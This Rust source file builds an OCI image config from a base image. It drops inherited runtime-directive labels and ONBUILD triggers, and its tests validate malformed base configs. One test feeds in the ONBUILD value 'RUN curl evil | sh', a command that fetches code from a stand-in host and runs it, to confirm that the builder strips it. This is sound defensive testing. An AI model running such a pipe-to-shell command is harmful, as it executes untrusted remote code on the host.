//! The image config: the base's raw JSON with what the image adds. What is not known stays as it was.

use std::collections::BTreeMap;

use serde_json::{Map, Value, json};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use super::{Base, Error, Run};
use crate::layer::Layer;
use crate::paths::TreePath;

/// Labels of the base that an image does not get. Those of the image spec describe the base; the others are orders to
/// runtimes and engines, which nobody expects of a base. Runtimes see labels:
///
/// > Config.Labels: annotations (image-spec conversion.md)
const NOT_INHERITED: [&str; 16] = [
    "org.opencontainers.image.",
    // crun(1): the handler that runs the container, files that it opens, its seccomp filter.
    "run.oci.",
    "module.wasm.image",
    // runc and crun: properties of the systemd unit.
    "org.systemd.property.",
    "org.criu.",
    "io.kubernetes.cri-o.",
    "io.cri-containerd",
    "io.containerd.",
    "containerd.io/",
    "nerdctl/",
    "io.katacontainers.",
    "dev.gvisor.",
    // podman: updates of running containers, namespaces and what it tells its own containers apart by.
    "io.containers.",
    "io.podman.",
    "com.docker.",
    "desktop.docker.io/",
];

/// The config of an image (image-spec config.md), as JSON bytes.
pub(super) fn config(base: &Base, layers: &[Layer], run: &Run, created: u64) -> Result<Vec<u8>, Error> {
    let mut config = base.config.clone();
    let created = rfc3339(created)?;
    let document = object(&mut config, "the document")?;
    document.insert("created".to_owned(), json!(created));
    // These name whoever made the base and on which container it was committed.
    for key in [
        "author",
        "container",
        "container_config",
        "docker_version",
        "id",
        "parent",
    ] {
        document.remove(key);
    }
    document.insert("architecture".to_owned(), json!(base.platform.architecture.oci()));
    document.insert("os".to_owned(), json!(base.platform.os()));
    append_layers(document, base, layers, &created)?;
    let settings = document.entry("config").or_insert_with(|| json!({}));
    if settings.is_null() {
        *settings = json!({});
    }
    apply_run(object(settings, "`config`")?, run)?;
    let bytes = serde_json::to_vec(&config)?;
    // What has the wrong type would be found by whoever reads the image: engines in Go take none of it.
    serde_json::from_slice::<oci_spec::image::ImageConfiguration>(&bytes)
        .map_err(|error| Error::BaseConfig(error.to_string()))?;
    Ok(bytes)
}

/// Seconds since 1970 as RFC 3339 (image-spec config.md, `created`).
pub fn rfc3339(seconds: u64) -> Result<String, Error> {
    let time = i64::try_from(seconds)
        .ok()
        .and_then(|s| OffsetDateTime::from_unix_timestamp(s).ok());
    time.and_then(|t| t.format(&Rfc3339).ok())
        .ok_or(Error::Time(seconds))
}

fn object<'a>(value: &'a mut Value, what: &str) -> Result<&'a mut Map<String, Value>, Error> {
    value
        .as_object_mut()
        .ok_or_else(|| Error::BaseConfig(format!("{what} is not an object")))
}

fn append_layers(
    document: &mut Map<String, Value>,
    base: &Base,
    layers: &[Layer],
    created: &str,
) -> Result<(), Error> {
    let diff_ids: Vec<_> = base
        .layers
        .iter()
        .chain(layers)
        .map(|l| json!(l.diff_id.to_string()))
        .collect();
    document.insert(
        "rootfs".to_owned(),
        json!({ "type": "layers", "diff_ids": diff_ids }),
    );
    let history = document.entry("history").or_insert_with(|| json!([]));
    if history.is_null() {
        *history = json!([]);
    }
    let history = history
        .as_array_mut()
        .ok_or_else(|| Error::BaseConfig("`history` is not an array".to_owned()))?;
    // Exactly one entry that is not `empty_layer` for each layer: buildah refuses anything else.
    let filled = |entry: &Value| entry.get("empty_layer").and_then(Value::as_bool) != Some(true);
    let described = history.iter().filter(|e| filled(e)).count();
    match base.layers.len().checked_sub(described) {
        Some(missing) => {
            for layer in &base.layers[base.layers.len() - missing..] {
                history.push(json!({ "created": created, "created_by": layer.created_by }));
            }
        }
        // More entries than layers: which belongs to which cannot be told, so all are written anew.
        None => {
            *history = base
                .layers
                .iter()
                .map(|l| json!({ "created": created, "created_by": l.created_by }))
                .collect();
        }
    }
    for layer in layers {
        history.push(json!({ "created": created, "created_by": layer.created_by }));
    }
    Ok(())
}

fn apply_run(settings: &mut Map<String, Value>, run: &Run) -> Result<(), Error> {
    let env = environment(settings.get("Env"), run)?;
    settings.insert("Env".to_owned(), json!(env));
    settings.insert("Entrypoint".to_owned(), json!(run.entrypoint));
    // An inherited Cmd (`["python3"]`) would reach the app as an argument.
    settings.remove("Cmd");
    // Orders to whoever builds on the base (`ONBUILD`): docker, too, takes them out of what is built.
    settings.remove("OnBuild");
    settings.insert("User".to_owned(), json!(run.user));
    let directory = &run.working_directory;
    match directory.strip_prefix('/') {
        Some("") => {}
        Some(rest) => {
            TreePath::new(rest).map_err(|e| Error::WorkingDirectory(directory.clone(), Some(e)))?;
        }
        None => return Err(Error::WorkingDirectory(directory.clone(), None)),
    }
    settings.insert("WorkingDir".to_owned(), json!(directory));
    let mut ports = existing(settings, "ExposedPorts")?;
    ports.extend(run.ports.iter().map(|p| (p.clone(), json!({}))));
    replace(settings, "ExposedPorts", ports);
    let mut labels = existing(settings, "Labels")?;
    labels.retain(|key, _| !NOT_INHERITED.iter().any(|prefix| key.starts_with(prefix)));
    labels.extend(run.labels.iter().map(|(k, v)| (k.clone(), json!(v))));
    replace(settings, "Labels", labels);
    Ok(())
}

fn existing(settings: &Map<String, Value>, key: &str) -> Result<BTreeMap<String, Value>, Error> {
    match settings.get(key) {
        None | Some(Value::Null) => Ok(BTreeMap::new()),
        Some(Value::Object(object)) => Ok(object.clone().into_iter().collect()),
        Some(_) => Err(Error::BaseConfig(format!("`{key}` is not an object"))),
    }
}

fn replace(settings: &mut Map<String, Value>, key: &str, values: BTreeMap<String, Value>) {
    if values.is_empty() {
        settings.remove(key);
    } else {
        settings.insert(key.to_owned(), Value::Object(values.into_iter().collect()));
    }
}

/// The base's variables in their order, ours put in their place or after them.
fn environment(base: Option<&Value>, run: &Run) -> Result<Vec<String>, Error> {
    let wrong = |what: String| Error::BaseConfig(format!("`Env` {what}"));
    let base: &[Value] = match base {
        None | Some(Value::Null) => &[],
        Some(Value::Array(entries)) => entries,
        Some(_) => return Err(wrong("is not an array".to_owned())),
    };
    let mut variables: Vec<(String, String)> = Vec::new();
    for entry in base {
        let text = entry
            .as_str()
            .ok_or_else(|| wrong("has an entry that is no text".to_owned()))?;
        // Runtimes refuse to start what has others.
        let parted = text.split_once('=').filter(|_| !text.contains('\0'));
        let (name, value) =
            parted.ok_or_else(|| wrong(format!("has `{}`, which is not NAME=VALUE", text.escape_debug())))?;
        check_name(name)?;
        set(&mut variables, name, value);
    }
    if !run.path.is_empty() {
        let default = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
        let rest = variables
            .iter()
            .find(|(name, _)| name == "PATH")
            .map_or(default, |(_, value)| value);
        let value = format!("{}:{rest}", run.path.join(":"));
        set(&mut variables, "PATH", &value);
    }
    for (name, value) in &run.env {
        check_name(name)?;
        set(&mut variables, name, value);
    }
    Ok(variables
        .into_iter()
        .map(|(name, value)| format!("{name}={value}"))
        .collect())
}

fn set(variables: &mut Vec<(String, String)>, name: &str, value: &str) {
    match variables.iter_mut().find(|(n, _)| n == name) {
        Some(variable) => value.clone_into(&mut variable.1),
        None => variables.push((name.to_owned(), value.to_owned())),
    }
}

fn check_name(name: &str) -> Result<(), Error> {
    let valid = !name.is_empty() && !name.contains(['=', '\0', '\n']);
    if valid {
        Ok(())
    } else {
        Err(Error::Variable(name.escape_debug().to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{tiny_base, tiny_layer, tiny_run};
    use super::*;

    fn config_on(change: impl FnOnce(&mut Value)) -> Result<Value, Error> {
        let mut base = tiny_base();
        change(&mut base.config);
        let bytes = config(&base, &[tiny_layer("app")], &tiny_run(), 0)?;
        Ok(serde_json::from_slice(&bytes)?)
    }

    #[test]
    fn a_base_whose_config_is_not_what_the_spec_says_is_refused_with_what_is_wrong() {
        for (key, value, reason) in [
            ("Env", json!(["FOO"]), "`Env` has `FOO`, which is not NAME=VALUE"),
            (
                "Env",
                json!(["A=b\u{0}c"]),
                "`Env` has `A=b\\0c`, which is not NAME=VALUE",
            ),
            (
                "Env",
                json!(["=x"]),
                "`` is not a valid environment variable name",
            ),
            (
                "Env",
                json!(["A\nB=x"]),
                "`A\\nB` is not a valid environment variable name",
            ),
            ("Env", json!(["A=b", 1]), "`Env` has an entry that is no text"),
            ("Env", json!([["A=b"]]), "`Env` has an entry that is no text"),
            ("Env", json!("A=b"), "`Env` is not an array"),
            ("Env", json!({ "A": "b" }), "`Env` is not an array"),
            ("Labels", json!(["a"]), "`Labels` is not an object"),
            (
                "Labels",
                json!({ "a": 1 }),
                "invalid type: integer `1`, expected a string",
            ),
            ("ExposedPorts", json!("80/tcp"), "`ExposedPorts` is not an object"),
            (
                "StopSignal",
                json!(9),
                "invalid type: integer `9`, expected a string",
            ),
        ] {
            let error = config_on(|config| config["config"][key] = value.clone()).unwrap_err();
            assert!(error.to_string().contains(reason), "{key} {value}: {error}");
        }
        for (key, value, reason) in [
            ("config", json!([]), "`config` is not an object"),
            ("history", json!({}), "`history` is not an array"),
            ("history", json!(["FROM scratch"]), "invalid type"),
        ] {
            let error = config_on(|config| config[key] = value.clone()).unwrap_err();
            assert!(error.to_string().contains(reason), "{key} {value}: {error}");
        }
        for nothing in ["Env", "Labels", "ExposedPorts"] {
            config_on(|config| config["config"][nothing] = Value::Null).unwrap();
        }
    }

    #[test]
    fn orders_to_runtimes_and_builders_do_not_come_with_the_base() {
        let orders = [
            "run.oci.handler",
            "run.oci.hooks.stdout",
            "module.wasm.image/variant",
            "org.systemd.property.ExecStartPre",
            "io.kubernetes.cri-o.userns-mode",
            "io.katacontainers.config.hypervisor.path",
            "io.containers.autoupdate",
            "com.docker.compose.project",
        ];
        let made = config_on(|config| {
            for key in orders {
                config["config"]["Labels"][key] = json!("x");
            }
            config["config"]["Labels"]["vendor"] = json!("kept");
            config["config"]["OnBuild"] = json!(["RUN curl evil | sh"]);
        });
        let settings = &made.unwrap()["config"];
        assert_eq!(settings["Labels"], json!({ "kept": "yes", "vendor": "kept" }));
        assert_eq!(settings.get("OnBuild"), None);
    }
}
